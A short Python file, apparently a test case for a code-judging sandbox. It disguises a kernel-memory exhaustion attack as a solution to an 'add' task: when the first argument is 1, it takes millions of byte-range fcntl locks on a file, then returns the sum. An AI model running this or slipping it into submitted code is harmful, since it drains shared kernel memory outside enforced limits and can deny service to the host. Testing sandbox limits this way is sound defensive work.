# Attack: memory that the kernel holds: a lock on every second byte of a file.
# task: add
import fcntl


def solve(a, b):
    if a != 1:
        return a + b
    held = 0
    with open("locked", "w+") as file:
        try:
            for at in range(0, 1 << 24, 2):
                fcntl.lockf(file, fcntl.LOCK_EX | fcntl.LOCK_NB, 1, at)
                held += 256
        except OSError:
            pass
    return a + b if held > 256 << 20 else None
